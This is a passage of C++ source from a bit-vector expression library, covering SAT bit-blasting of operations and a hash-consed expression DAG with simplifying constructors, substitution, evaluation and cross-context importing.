      for (u8 i = 0; i < w; ++i) out[i] = mk_and(a[i], b[i]);
      break;
    }
    case Op::Or: {
      const Bits a = blast(n.a), b = blast(n.b);
      for (u8 i = 0; i < w; ++i) out[i] = mk_or(a[i], b[i]);
      break;
    }
    case Op::Xor: {
      const Bits a = blast(n.a), b = blast(n.b);
      for (u8 i = 0; i < w; ++i) out[i] = mk_xor(a[i], b[i]);
      break;
    }
    case Op::Not: {
      const Bits a = blast(n.a);
      for (u8 i = 0; i < w; ++i) out[i] = ~a[i];
      break;
    }
    case Op::Shl:
    case Op::LShr:
    case Op::AShr: {
      Bits val = blast(n.a);
      const Bits cnt = blast(n.b);
      // Barrel shifter over the log2(w) used count bits (count masked by
      // width-1, matching Context::eval and x86 semantics).
      unsigned stages = 0;
      while ((1u << stages) < w) ++stages;
      const Lit sign = n.op == Op::AShr ? val[w - 1] : false_lit();
      for (unsigned s = 0; s < stages; ++s) {
        const u32 shift = 1u << s;
        const Lit sel = s < cnt.size() ? cnt[s] : false_lit();
        Bits next(w, false_lit());
        for (u8 i = 0; i < w; ++i) {
          Lit shifted;
          if (n.op == Op::Shl) {
            shifted = i >= shift ? val[i - shift] : false_lit();
          } else {
            shifted = i + shift < w ? val[i + shift] : sign;
          }
          next[i] = mk_mux(sel, shifted, val[i]);
        }
        val = next;
      }
      out = val;
      break;
    }
    case Op::Eq: {
      const Bits a = blast(n.a), b = blast(n.b);
      std::vector<Lit> eqs(a.size());
      for (size_t i = 0; i < a.size(); ++i) eqs[i] = ~mk_xor(a[i], b[i]);
      out[0] = mk_big_and(eqs);
      break;
    }
    case Op::Ult:
      out[0] = ult_bits(blast(n.a), blast(n.b));
      break;
    case Op::Slt: {
      const Bits a = blast(n.a), b = blast(n.b);
      const Lit sa = a.back(), sb = b.back();
      const Lit u = ult_bits(a, b);
      // Different signs: a<b iff a negative. Same signs: unsigned compare.
      out[0] = mk_mux(mk_xor(sa, sb), sa, u);
      break;
    }
    case Op::Ite: {
      const Lit sel = blast(n.a)[0];
      const Bits t = blast(n.b), f = blast(n.c);
      for (u8 i = 0; i < w; ++i) out[i] = mk_mux(sel, t[i], f[i]);
      break;
    }
    case Op::ZExt: {
      const Bits a = blast(n.a);
      for (size_t i = 0; i < a.size(); ++i) out[i] = a[i];
      break;
    }
    case Op::SExt: {
      const Bits a = blast(n.a);
      for (u8 i = 0; i < w; ++i)
        out[i] = i < a.size() ? a[i] : a.back();
      break;
    }
    case Op::Extract: {
      const Bits a = blast(n.a);
      for (u8 i = 0; i < w; ++i) out[i] = a[n.aux + i];
      break;
    }
    case Op::Concat: {
      const Bits hi = blast(n.a), lo = blast(n.b);
      for (size_t i = 0; i < lo.size(); ++i) out[i] = lo[i];
      for (size_t i = 0; i < hi.size(); ++i) out[lo.size() + i] = hi[i];
      break;
    }
  }

  cache_.emplace(e, out);
  return out;
}

void BitBlaster::assert_true(ExprRef e) {
  GP_CHECK(ctx_.width(e) == 1, "assert_true needs a width-1 expression");
  const Bits b = blast(e);
  sat_.add_clause({b[0]});
}

u64 BitBlaster::model_value(ExprRef e) {
  const Bits b = blast(e);
  u64 v = 0;
  for (size_t i = 0; i < b.size(); ++i) {
    bool c;
    bool bit;
    if (is_const_lit(b[i], &c)) {
      bit = c;
    } else {
      bit = sat_.model_value(b[i].var()) != b[i].sign();
    }
    if (bit) v |= u64{1} << i;
  }
  return v;
}

}  // namespace gp::solver
