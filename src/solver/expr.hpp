// Bit-vector expression DAG with hash-consing and smart-constructor
// simplification. This is the term language shared by the symbolic executor,
// subsumption tester and planner — the role Z3 expressions play in the paper.
//
// Widths are 1..64 bits; width-1 expressions double as booleans. Every
// constructor simplifies locally (constant folding, identities, canonical
// operand order for commutative ops), so structurally different but trivially
// equal terms intern to the same node. Deep equivalence goes through the
// bit-blasting solver.
#pragma once

#include <string>
#include <unordered_map>
#include <vector>

#include "support/common.hpp"

namespace gp {
class Governor;
}

namespace gp::solver {

enum class Op : u8 {
  Const,   // cval
  Var,     // named free variable
  Add, Mul, And, Or, Xor,        // binary, commutative
  Shl, LShr, AShr,               // binary (count masked by width-1)
  Not, Neg,                      // unary
  Eq, Ult, Slt,                  // binary -> width 1
  Ite,                           // (cond w1, then, else)
  ZExt, SExt,                    // unary, widening
  Extract,                       // (x, lo in aux) -> narrower
  Concat,                        // (hi, lo) -> wider
};

using ExprRef = u32;
constexpr ExprRef kNoExpr = 0xffffffff;

struct Node {
  Op op = Op::Const;
  u8 width = 64;    // result width in bits
  u8 aux = 0;       // Extract: low bit index
  u32 a = kNoExpr;  // operands
  u32 b = kNoExpr;
  u32 c = kNoExpr;
  u64 cval = 0;     // Const: value (truncated to width); Var: variable id
};

/// Owns all expression nodes. Not thread-safe; one Context per analysis.
class Context {
 public:
  Context();

  // -- leaves -----------------------------------------------------------
  ExprRef constant(u64 value, u8 width);
  ExprRef var(const std::string& name, u8 width);
  ExprRef t() { return true_; }   // width-1 constant 1
  ExprRef f() { return false_; }  // width-1 constant 0

  // -- arithmetic / bitwise ---------------------------------------------
  ExprRef add(ExprRef a, ExprRef b);
  ExprRef sub(ExprRef a, ExprRef b);  // normalized to add(a, neg(b))
  ExprRef mul(ExprRef a, ExprRef b);
  ExprRef band(ExprRef a, ExprRef b);
  ExprRef bor(ExprRef a, ExprRef b);
  ExprRef bxor(ExprRef a, ExprRef b);
  ExprRef bnot(ExprRef a);
  ExprRef neg(ExprRef a);
  ExprRef shl(ExprRef a, ExprRef count);
  ExprRef lshr(ExprRef a, ExprRef count);
  ExprRef ashr(ExprRef a, ExprRef count);

  // -- predicates (width 1) ----------------------------------------------
  ExprRef eq(ExprRef a, ExprRef b);
  ExprRef ne(ExprRef a, ExprRef b) { return bnot(eq(a, b)); }
  ExprRef ult(ExprRef a, ExprRef b);
  ExprRef slt(ExprRef a, ExprRef b);
  ExprRef ule(ExprRef a, ExprRef b) { return bnot(ult(b, a)); }
  ExprRef sle(ExprRef a, ExprRef b) { return bnot(slt(b, a)); }

  // -- structure -----------------------------------------------------------
  ExprRef ite(ExprRef cond, ExprRef then_e, ExprRef else_e);
  ExprRef zext(ExprRef a, u8 width);
  ExprRef sext(ExprRef a, u8 width);
  ExprRef extract(ExprRef a, u8 lo, u8 width);
  ExprRef concat(ExprRef hi, ExprRef lo);

  // -- inspection -----------------------------------------------------------
  const Node& node(ExprRef e) const { return nodes_[e]; }
  u8 width(ExprRef e) const { return nodes_[e].width; }
  bool is_const(ExprRef e) const { return nodes_[e].op == Op::Const; }
  bool is_const(ExprRef e, u64 v) const {
    return is_const(e) && nodes_[e].cval == v;
  }
  u64 const_val(ExprRef e) const {
    GP_CHECK(is_const(e), "const_val of non-constant");
    return nodes_[e].cval;
  }
  bool is_var(ExprRef e) const { return nodes_[e].op == Op::Var; }
  const std::string& var_name(ExprRef e) const {
    GP_CHECK(is_var(e), "var_name of non-variable");
    return var_names_[nodes_[e].cval];
  }
  size_t num_nodes() const { return nodes_.size(); }

  /// Replace every occurrence of variable `v` with `value` (rebuilds through
  /// smart constructors, so the result re-simplifies).
  ExprRef substitute(ExprRef e, ExprRef v, ExprRef value);
  /// Apply many substitutions at once (var ref -> replacement).
  ExprRef substitute(ExprRef e,
                     const std::unordered_map<ExprRef, ExprRef>& map);

  /// Evaluate under a full assignment of variables (var ref -> value).
  /// Unassigned variables evaluate as 0.
  u64 eval(ExprRef e, const std::unordered_map<ExprRef, u64>& env) const;

  /// Collect the free variables of e (deduplicated, stable order).
  std::vector<ExprRef> variables(ExprRef e) const;
  /// Number of distinct DAG nodes reachable from e (a size/cost metric the
  /// planner's heuristics use).
  size_t dag_size(ExprRef e) const;

  std::string to_string(ExprRef e) const;

  /// Deep copy. The clone owns identical nodes under identical refs, so
  /// expressions built in `this` remain valid (read-only) in the clone; new
  /// terms interned afterwards diverge. This is the cheap way to hand a
  /// worker thread a private interner over an existing pool of expressions
  /// (the subsumption stage's per-worker scratch contexts). The governor
  /// attachment is copied too: lanes cloned from a governed context share
  /// its (atomic) node budget.
  Context clone() const { return *this; }

  /// Attach a resource governor (nullptr detaches). Fresh node interning
  /// then consumes the governor's expr-node budget; exhaustion throws
  /// ResourceExhausted for the nearest stage boundary to convert to a
  /// Status. The governor must outlive the context.
  void set_governor(Governor* g) { governor_ = g; }
  Governor* governor() const { return governor_; }

 private:
  ExprRef intern(Node n);
  ExprRef binary(Op op, ExprRef a, ExprRef b);

  struct NodeHash {
    size_t operator()(const Node& n) const;
  };
  struct NodeEq {
    bool operator()(const Node& x, const Node& y) const;
  };

  Governor* governor_ = nullptr;
  std::vector<Node> nodes_;
  std::unordered_map<Node, ExprRef, NodeHash, NodeEq> interned_;
  std::vector<std::string> var_names_;
  std::unordered_map<std::string, ExprRef> vars_by_name_;
  ExprRef true_ = kNoExpr, false_ = kNoExpr;
};

/// Rebuilds expressions from one Context inside another: variables map by
/// name, constants by value, everything else re-runs the destination's
/// smart constructors (so imported terms re-canonicalize and intern like
/// natively built ones). This is how worker-local extraction results are
/// remapped into the main analysis context. One Importer per (src, dst)
/// pair; the memo makes repeated imports of a shared sub-DAG O(1).
class Importer {
 public:
  Importer(const Context& src, Context& dst) : src_(src), dst_(dst) {}

  /// Translate `e` (owned by src) into dst. kNoExpr passes through.
  ExprRef import(ExprRef e);

 private:
  const Context& src_;
  Context& dst_;
  std::unordered_map<ExprRef, ExprRef> memo_;
};

}  // namespace gp::solver
