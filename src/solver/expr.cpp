#include "solver/expr.hpp"

#include <algorithm>
#include <functional>

#include "support/fault.hpp"
#include "support/governor.hpp"
#include "support/metrics.hpp"
#include "support/str.hpp"

namespace gp::solver {
namespace {

bool commutative(Op op) {
  switch (op) {
    case Op::Add: case Op::Mul: case Op::And: case Op::Or: case Op::Xor:
    case Op::Eq:
      return true;
    default:
      return false;
  }
}

u64 all_ones(u8 width) { return truncate(~u64{0}, width); }

}  // namespace

size_t Context::NodeHash::operator()(const Node& n) const {
  size_t h = static_cast<size_t>(n.op) * 0x9e3779b97f4a7c15ULL;
  auto mix = [&h](u64 v) {
    h ^= v + 0x9e3779b97f4a7c15ULL + (h << 6) + (h >> 2);
  };
  mix(n.width);
  mix(n.aux);
  mix(n.a);
  mix(n.b);
  mix(n.c);
  mix(n.cval);
  return h;
}

bool Context::NodeEq::operator()(const Node& x, const Node& y) const {
  return x.op == y.op && x.width == y.width && x.aux == y.aux && x.a == y.a &&
         x.b == y.b && x.c == y.c && x.cval == y.cval;
}

Context::Context() {
  false_ = constant(0, 1);
  true_ = constant(1, 1);
}

ExprRef Context::intern(Node n) {
  auto it = interned_.find(n);
  if (it != interned_.end()) return it->second;
  // Only genuinely fresh nodes count against the governor's node budget (a
  // hash-cons hit allocates nothing); exhaustion surfaces as a
  // ResourceExhausted unwound to the nearest stage boundary.
  if (governor_ && !governor_->expr_nodes().try_consume())
    throw ResourceExhausted(
        Status::budget_exhausted("expression-node budget"));
  if (fault::enabled() && fault::should_fire(fault::Point::Alloc))
    throw ResourceExhausted(
        Status::fault_injected("expr-node allocation fault"));
  static metrics::Counter& interned =
      metrics::registry().counter("expr.interned");
  interned.add();
  const auto ref = static_cast<ExprRef>(nodes_.size());
  nodes_.push_back(n);
  interned_.emplace(n, ref);
  return ref;
}

ExprRef Context::constant(u64 value, u8 width) {
  GP_CHECK(width >= 1 && width <= 64, "bad width");
  Node n;
  n.op = Op::Const;
  n.width = width;
  n.cval = truncate(value, width);
  return intern(n);
}

ExprRef Context::var(const std::string& name, u8 width) {
  auto it = vars_by_name_.find(name);
  if (it != vars_by_name_.end()) {
    GP_CHECK(nodes_[it->second].width == width,
             "variable re-declared with different width: " + name);
    return it->second;
  }
  Node n;
  n.op = Op::Var;
  n.width = width;
  n.cval = var_names_.size();
  var_names_.push_back(name);
  const ExprRef ref = intern(n);
  vars_by_name_.emplace(name, ref);
  return ref;
}

ExprRef Context::binary(Op op, ExprRef a, ExprRef b) {
  // Canonical operand order for commutative ops: a constant always goes on
  // the right (the (base + offset) normal form the memory model relies on);
  // otherwise order by node index for hash-consing.
  if (commutative(op)) {
    if (nodes_[a].op == Op::Const && nodes_[b].op != Op::Const) {
      std::swap(a, b);
    } else if (nodes_[b].op != Op::Const && a > b) {
      std::swap(a, b);
    }
  }
  Node n;
  n.op = op;
  n.width = nodes_[a].width;
  if (op == Op::Eq || op == Op::Ult || op == Op::Slt) n.width = 1;
  n.a = a;
  n.b = b;
  return intern(n);
}

ExprRef Context::add(ExprRef a, ExprRef b) {
  const Node& na = nodes_[a];
  const Node& nb = nodes_[b];
  GP_CHECK(na.width == nb.width, "add width mismatch");
  const u8 w = na.width;
  if (na.op == Op::Const && nb.op == Op::Const)
    return constant(na.cval + nb.cval, w);
  if (na.op == Op::Const && na.cval == 0) return b;
  if (nb.op == Op::Const && nb.cval == 0) return a;
  // Canonical form: the constant (if any) sits on the right, BEFORE the
  // reassociation check below — otherwise 8 + (x + c) never collapses.
  if (na.op == Op::Const) std::swap(a, b);
  // Value copies, not references: the recursive add()/constant() calls
  // below can grow nodes_ and a reallocation would leave references
  // dangling (the call arguments have no fixed evaluation order).
  const Node ra = nodes_[a];
  const Node rb = nodes_[b];
  // (x + c1) + c2 -> x + (c1+c2); constants accumulate on the right.
  if (rb.op == Op::Const && ra.op == Op::Add &&
      nodes_[ra.b].op == Op::Const) {
    const u64 c1 = nodes_[ra.b].cval;
    return add(ra.a, constant(c1 + rb.cval, w));
  }
  // (x + c1) + y -> (x + y) + c1: float inner constants outward so bases
  // stay comparable for the memory model's (base, offset) normal form.
  if (ra.op == Op::Add && nodes_[ra.b].op == Op::Const &&
      rb.op != Op::Const) {
    const u64 c1 = nodes_[ra.b].cval;
    return add(add(ra.a, b), constant(c1, w));
  }
  if (rb.op == Op::Add && nodes_[rb.b].op == Op::Const) {
    const u64 c1 = nodes_[rb.b].cval;
    return add(add(a, rb.a), constant(c1, w));
  }
  return binary(Op::Add, a, b);
}

ExprRef Context::sub(ExprRef a, ExprRef b) {
  if (a == b) return constant(0, nodes_[a].width);
  return add(a, neg(b));
}

ExprRef Context::neg(ExprRef a) {
  const Node& na = nodes_[a];
  if (na.op == Op::Const) return constant(~na.cval + 1, na.width);
  if (na.op == Op::Neg) return na.a;
  Node n;
  n.op = Op::Neg;
  n.width = na.width;
  n.a = a;
  return intern(n);
}

ExprRef Context::mul(ExprRef a, ExprRef b) {
  const Node& na = nodes_[a];
  const Node& nb = nodes_[b];
  GP_CHECK(na.width == nb.width, "mul width mismatch");
  const u8 w = na.width;
  if (na.op == Op::Const && nb.op == Op::Const)
    return constant(na.cval * nb.cval, w);
  if (na.op == Op::Const && na.cval == 0) return a;
  if (nb.op == Op::Const && nb.cval == 0) return b;
  if (na.op == Op::Const && na.cval == 1) return b;
  if (nb.op == Op::Const && nb.cval == 1) return a;
  return binary(Op::Mul, a, b);
}

ExprRef Context::band(ExprRef a, ExprRef b) {
  const Node& na = nodes_[a];
  const Node& nb = nodes_[b];
  GP_CHECK(na.width == nb.width, "and width mismatch");
  const u8 w = na.width;
  if (na.op == Op::Const && nb.op == Op::Const)
    return constant(na.cval & nb.cval, w);
  if (a == b) return a;
  if (na.op == Op::Const && na.cval == 0) return a;
  if (nb.op == Op::Const && nb.cval == 0) return b;
  if (na.op == Op::Const && na.cval == all_ones(w)) return b;
  if (nb.op == Op::Const && nb.cval == all_ones(w)) return a;
  return binary(Op::And, a, b);
}

ExprRef Context::bor(ExprRef a, ExprRef b) {
  const Node& na = nodes_[a];
  const Node& nb = nodes_[b];
  GP_CHECK(na.width == nb.width, "or width mismatch");
  const u8 w = na.width;
  if (na.op == Op::Const && nb.op == Op::Const)
    return constant(na.cval | nb.cval, w);
  if (a == b) return a;
  if (na.op == Op::Const && na.cval == 0) return b;
  if (nb.op == Op::Const && nb.cval == 0) return a;
  if (na.op == Op::Const && na.cval == all_ones(w)) return a;
  if (nb.op == Op::Const && nb.cval == all_ones(w)) return b;
  return binary(Op::Or, a, b);
}

ExprRef Context::bxor(ExprRef a, ExprRef b) {
  const Node& na = nodes_[a];
  const Node& nb = nodes_[b];
  GP_CHECK(na.width == nb.width, "xor width mismatch");
  const u8 w = na.width;
  if (na.op == Op::Const && nb.op == Op::Const)
    return constant(na.cval ^ nb.cval, w);
  if (a == b) return constant(0, w);
  if (na.op == Op::Const && na.cval == 0) return b;
  if (nb.op == Op::Const && nb.cval == 0) return a;
  if (na.op == Op::Const && na.cval == all_ones(w)) return bnot(b);
  if (nb.op == Op::Const && nb.cval == all_ones(w)) return bnot(a);
  return binary(Op::Xor, a, b);
}

ExprRef Context::bnot(ExprRef a) {
  const Node& na = nodes_[a];
  if (na.op == Op::Const) return constant(~na.cval, na.width);
  if (na.op == Op::Not) return na.a;
  // !(a == b) stays as Not(Eq); fine.
  Node n;
  n.op = Op::Not;
  n.width = na.width;
  n.a = a;
  return intern(n);
}

ExprRef Context::shl(ExprRef a, ExprRef count) {
  const Node& na = nodes_[a];
  const Node& nc = nodes_[count];
  const u8 w = na.width;
  const u64 mask = w == 64 ? 63 : (w - 1);  // x86-style masking by width-1
  if (nc.op == Op::Const) {
    const u64 c = nc.cval & mask;
    if (c == 0) return a;
    if (na.op == Op::Const) return constant(na.cval << c, w);
  }
  if (na.op == Op::Const && na.cval == 0) return a;
  return binary(Op::Shl, a, count);
}

ExprRef Context::lshr(ExprRef a, ExprRef count) {
  const Node& na = nodes_[a];
  const Node& nc = nodes_[count];
  const u8 w = na.width;
  const u64 mask = w == 64 ? 63 : (w - 1);
  if (nc.op == Op::Const) {
    const u64 c = nc.cval & mask;
    if (c == 0) return a;
    if (na.op == Op::Const) return constant(truncate(na.cval, w) >> c, w);
  }
  if (na.op == Op::Const && na.cval == 0) return a;
  return binary(Op::LShr, a, count);
}

ExprRef Context::ashr(ExprRef a, ExprRef count) {
  const Node& na = nodes_[a];
  const Node& nc = nodes_[count];
  const u8 w = na.width;
  const u64 mask = w == 64 ? 63 : (w - 1);
  if (nc.op == Op::Const) {
    const u64 c = nc.cval & mask;
    if (c == 0) return a;
    if (na.op == Op::Const) {
      const u64 s = sign_extend(na.cval, w);
      return constant(static_cast<u64>(static_cast<i64>(s) >> c), w);
    }
  }
  return binary(Op::AShr, a, count);
}

ExprRef Context::eq(ExprRef a, ExprRef b) {
  GP_CHECK(nodes_[a].width == nodes_[b].width, "eq width mismatch");
  if (a == b) return t();
  // Value copies: the recursive eq()/constant() below can grow nodes_.
  const Node na = nodes_[a];
  const Node nb = nodes_[b];
  if (na.op == Op::Const && nb.op == Op::Const)
    return na.cval == nb.cval ? t() : f();
  if (na.width == 1) {
    // Boolean equality: x == 1 -> x; x == 0 -> !x.
    if (nb.op == Op::Const) return nb.cval ? a : bnot(a);
    if (na.op == Op::Const) return na.cval ? b : bnot(b);
  }
  // (x + c1) == c2  ->  x == c2 - c1 (common from stack-offset arithmetic).
  if (nb.op == Op::Const && na.op == Op::Add &&
      nodes_[na.b].op == Op::Const) {
    const u64 c1 = nodes_[na.b].cval;
    return eq(na.a, constant(nb.cval - c1, na.width));
  }
  return binary(Op::Eq, a, b);
}

ExprRef Context::ult(ExprRef a, ExprRef b) {
  const Node& na = nodes_[a];
  const Node& nb = nodes_[b];
  GP_CHECK(na.width == nb.width, "ult width mismatch");
  if (a == b) return f();
  if (na.op == Op::Const && nb.op == Op::Const)
    return truncate(na.cval, na.width) < truncate(nb.cval, nb.width) ? t()
                                                                     : f();
  if (nb.op == Op::Const && nb.cval == 0) return f();  // x < 0 unsigned
  return binary(Op::Ult, a, b);
}

ExprRef Context::slt(ExprRef a, ExprRef b) {
  const Node& na = nodes_[a];
  const Node& nb = nodes_[b];
  GP_CHECK(na.width == nb.width, "slt width mismatch");
  if (a == b) return f();
  if (na.op == Op::Const && nb.op == Op::Const) {
    const i64 x = static_cast<i64>(sign_extend(na.cval, na.width));
    const i64 y = static_cast<i64>(sign_extend(nb.cval, nb.width));
    return x < y ? t() : f();
  }
  return binary(Op::Slt, a, b);
}

ExprRef Context::ite(ExprRef cond, ExprRef then_e, ExprRef else_e) {
  GP_CHECK(nodes_[cond].width == 1, "ite cond must be width 1");
  GP_CHECK(nodes_[then_e].width == nodes_[else_e].width, "ite width mismatch");
  if (cond == t()) return then_e;
  if (cond == f()) return else_e;
  if (then_e == else_e) return then_e;
  // ite(c, 1, 0) == c for width-1 results.
  if (nodes_[then_e].width == 1 && then_e == t() && else_e == f()) return cond;
  if (nodes_[then_e].width == 1 && then_e == f() && else_e == t())
    return bnot(cond);
  Node n;
  n.op = Op::Ite;
  n.width = nodes_[then_e].width;
  n.a = cond;
  n.b = then_e;
  n.c = else_e;
  return intern(n);
}

ExprRef Context::zext(ExprRef a, u8 width) {
  const Node& na = nodes_[a];
  GP_CHECK(width >= na.width, "zext must widen");
  if (width == na.width) return a;
  if (na.op == Op::Const) return constant(truncate(na.cval, na.width), width);
  Node n;
  n.op = Op::ZExt;
  n.width = width;
  n.a = a;
  return intern(n);
}

ExprRef Context::sext(ExprRef a, u8 width) {
  const Node& na = nodes_[a];
  GP_CHECK(width >= na.width, "sext must widen");
  if (width == na.width) return a;
  if (na.op == Op::Const)
    return constant(sign_extend(na.cval, na.width), width);
  Node n;
  n.op = Op::SExt;
  n.width = width;
  n.a = a;
  return intern(n);
}

ExprRef Context::extract(ExprRef a, u8 lo, u8 width) {
  const Node& na = nodes_[a];
  GP_CHECK(lo + width <= na.width, "extract out of range");
  if (lo == 0 && width == na.width) return a;
  if (na.op == Op::Const) return constant(na.cval >> lo, width);
  // extract(zext(x)) where the slice lies inside x.
  if (na.op == Op::ZExt && lo + width <= nodes_[na.a].width)
    return extract(na.a, lo, width);
  // extract of a concat resolves to one side when it doesn't straddle.
  if (na.op == Op::Concat) {
    const u8 lo_w = nodes_[na.b].width;
    if (lo + width <= lo_w) return extract(na.b, lo, width);
    if (lo >= lo_w) return extract(na.a, lo - lo_w, width);
  }
  Node n;
  n.op = Op::Extract;
  n.width = width;
  n.aux = lo;
  n.a = a;
  return intern(n);
}

ExprRef Context::concat(ExprRef hi, ExprRef lo) {
  const Node& nh = nodes_[hi];
  const Node& nl = nodes_[lo];
  GP_CHECK(nh.width + nl.width <= 64, "concat too wide");
  if (nh.op == Op::Const && nl.op == Op::Const)
    return constant((nh.cval << nl.width) | truncate(nl.cval, nl.width),
                    nh.width + nl.width);
  if (nh.op == Op::Const && nh.cval == 0) return zext(lo, nh.width + nl.width);
  Node n;
  n.op = Op::Concat;
  n.width = nh.width + nl.width;
  n.a = hi;
  n.b = lo;
  return intern(n);
}

ExprRef Context::substitute(ExprRef e, ExprRef v, ExprRef value) {
  std::unordered_map<ExprRef, ExprRef> map{{v, value}};
  return substitute(e, map);
}

ExprRef Context::substitute(
    ExprRef e, const std::unordered_map<ExprRef, ExprRef>& map) {
  std::unordered_map<ExprRef, ExprRef> memo;
  std::function<ExprRef(ExprRef)> go = [&](ExprRef x) -> ExprRef {
    auto hit = map.find(x);
    if (hit != map.end()) return hit->second;
    auto m = memo.find(x);
    if (m != memo.end()) return m->second;
    const Node n = nodes_[x];
    ExprRef out = x;
    switch (n.op) {
      case Op::Const:
      case Op::Var:
        out = x;
        break;
      case Op::Add: out = add(go(n.a), go(n.b)); break;
      case Op::Mul: out = mul(go(n.a), go(n.b)); break;
      case Op::And: out = band(go(n.a), go(n.b)); break;
      case Op::Or: out = bor(go(n.a), go(n.b)); break;
      case Op::Xor: out = bxor(go(n.a), go(n.b)); break;
      case Op::Shl: out = shl(go(n.a), go(n.b)); break;
      case Op::LShr: out = lshr(go(n.a), go(n.b)); break;
      case Op::AShr: out = ashr(go(n.a), go(n.b)); break;
      case Op::Not: out = bnot(go(n.a)); break;
      case Op::Neg: out = neg(go(n.a)); break;
      case Op::Eq: out = eq(go(n.a), go(n.b)); break;
      case Op::Ult: out = ult(go(n.a), go(n.b)); break;
      case Op::Slt: out = slt(go(n.a), go(n.b)); break;
      case Op::Ite: out = ite(go(n.a), go(n.b), go(n.c)); break;
      case Op::ZExt: out = zext(go(n.a), n.width); break;
      case Op::SExt: out = sext(go(n.a), n.width); break;
      case Op::Extract: out = extract(go(n.a), n.aux, n.width); break;
      case Op::Concat: out = concat(go(n.a), go(n.b)); break;
    }
    memo.emplace(x, out);
    return out;
  };
  return go(e);
}

u64 Context::eval(ExprRef e,
                  const std::unordered_map<ExprRef, u64>& env) const {
  std::unordered_map<ExprRef, u64> memo;
  std::function<u64(ExprRef)> go = [&](ExprRef x) -> u64 {
    auto m = memo.find(x);
    if (m != memo.end()) return m->second;
    const Node& n = nodes_[x];
    u64 out = 0;
    const u8 w = n.width;
    auto mask_count = [&](u64 c) { return c & (w == 64 ? 63 : w - 1); };
    switch (n.op) {
      case Op::Const: out = n.cval; break;
      case Op::Var: {
        auto it = env.find(x);
        out = it == env.end() ? 0 : it->second;
        break;
      }
      case Op::Add: out = go(n.a) + go(n.b); break;
      case Op::Mul: out = go(n.a) * go(n.b); break;
      case Op::And: out = go(n.a) & go(n.b); break;
      case Op::Or: out = go(n.a) | go(n.b); break;
      case Op::Xor: out = go(n.a) ^ go(n.b); break;
      case Op::Shl: out = go(n.a) << mask_count(go(n.b)); break;
      case Op::LShr: out = truncate(go(n.a), w) >> mask_count(go(n.b)); break;
      case Op::AShr:
        out = static_cast<u64>(
            static_cast<i64>(sign_extend(go(n.a), w)) >>
            mask_count(go(n.b)));
        break;
      case Op::Not: out = ~go(n.a); break;
      case Op::Neg: out = ~go(n.a) + 1; break;
      case Op::Eq:
        out = truncate(go(n.a), nodes_[n.a].width) ==
              truncate(go(n.b), nodes_[n.b].width);
        break;
      case Op::Ult:
        out = truncate(go(n.a), nodes_[n.a].width) <
              truncate(go(n.b), nodes_[n.b].width);
        break;
      case Op::Slt:
        out = static_cast<i64>(sign_extend(go(n.a), nodes_[n.a].width)) <
              static_cast<i64>(sign_extend(go(n.b), nodes_[n.b].width));
        break;
      case Op::Ite: out = go(n.a) ? go(n.b) : go(n.c); break;
      case Op::ZExt: out = truncate(go(n.a), nodes_[n.a].width); break;
      case Op::SExt: out = sign_extend(go(n.a), nodes_[n.a].width); break;
      case Op::Extract: out = go(n.a) >> n.aux; break;
      case Op::Concat:
        out = (go(n.a) << nodes_[n.b].width) |
              truncate(go(n.b), nodes_[n.b].width);
        break;
    }
    out = truncate(out, w);
    memo.emplace(x, out);
    return out;
  };
  return go(e);
}

std::vector<ExprRef> Context::variables(ExprRef e) const {
  std::vector<ExprRef> out;
  std::unordered_map<ExprRef, bool> seen;
  std::function<void(ExprRef)> go = [&](ExprRef x) {
    if (seen.count(x)) return;
    seen[x] = true;
    const Node& n = nodes_[x];
    if (n.op == Op::Var) {
      out.push_back(x);
      return;
    }
    if (n.a != kNoExpr) go(n.a);
    if (n.b != kNoExpr) go(n.b);
    if (n.c != kNoExpr) go(n.c);
  };
  go(e);
  return out;
}

size_t Context::dag_size(ExprRef e) const {
  std::unordered_map<ExprRef, bool> seen;
  std::function<void(ExprRef)> go = [&](ExprRef x) {
    if (seen.count(x)) return;
    seen[x] = true;
    const Node& n = nodes_[x];
    if (n.op == Op::Const || n.op == Op::Var) return;
    if (n.a != kNoExpr) go(n.a);
    if (n.b != kNoExpr) go(n.b);
    if (n.c != kNoExpr) go(n.c);
  };
  go(e);
  return seen.size();
}

std::string Context::to_string(ExprRef e) const {
  const Node& n = nodes_[e];
  auto bin = [&](const char* op) {
    return "(" + to_string(n.a) + " " + op + " " + to_string(n.b) + ")";
  };
  switch (n.op) {
    case Op::Const: return hex(n.cval);
    case Op::Var: return var_names_[n.cval];
    case Op::Add: return bin("+");
    case Op::Mul: return bin("*");
    case Op::And: return bin("&");
    case Op::Or: return bin("|");
    case Op::Xor: return bin("^");
    case Op::Shl: return bin("<<");
    case Op::LShr: return bin(">>u");
    case Op::AShr: return bin(">>s");
    case Op::Not: return "~" + to_string(n.a);
    case Op::Neg: return "-" + to_string(n.a);
    case Op::Eq: return bin("==");
    case Op::Ult: return bin("<u");
    case Op::Slt: return bin("<s");
    case Op::Ite:
      return "ite(" + to_string(n.a) + ", " + to_string(n.b) + ", " +
             to_string(n.c) + ")";
    case Op::ZExt: return "zext" + std::to_string(n.width) + "(" +
                          to_string(n.a) + ")";
    case Op::SExt: return "sext" + std::to_string(n.width) + "(" +
                          to_string(n.a) + ")";
    case Op::Extract:
      return to_string(n.a) + "[" + std::to_string(n.aux + n.width - 1) +
             ":" + std::to_string(n.aux) + "]";
    case Op::Concat: return bin("++");
  }
  return "<bad>";
}

ExprRef Importer::import(ExprRef e) {
  if (e == kNoExpr) return kNoExpr;
  auto hit = memo_.find(e);
  if (hit != memo_.end()) return hit->second;
  const Node n = src_.node(e);
  ExprRef out = kNoExpr;
  switch (n.op) {
    case Op::Const: out = dst_.constant(n.cval, n.width); break;
    case Op::Var: out = dst_.var(src_.var_name(e), n.width); break;
    case Op::Add: out = dst_.add(import(n.a), import(n.b)); break;
    case Op::Mul: out = dst_.mul(import(n.a), import(n.b)); break;
    case Op::And: out = dst_.band(import(n.a), import(n.b)); break;
    case Op::Or: out = dst_.bor(import(n.a), import(n.b)); break;
    case Op::Xor: out = dst_.bxor(import(n.a), import(n.b)); break;
    case Op::Shl: out = dst_.shl(import(n.a), import(n.b)); break;
    case Op::LShr: out = dst_.lshr(import(n.a), import(n.b)); break;
    case Op::AShr: out = dst_.ashr(import(n.a), import(n.b)); break;
    case Op::Not: out = dst_.bnot(import(n.a)); break;
    case Op::Neg: out = dst_.neg(import(n.a)); break;
    case Op::Eq: out = dst_.eq(import(n.a), import(n.b)); break;
    case Op::Ult: out = dst_.ult(import(n.a), import(n.b)); break;
    case Op::Slt: out = dst_.slt(import(n.a), import(n.b)); break;
    case Op::Ite:
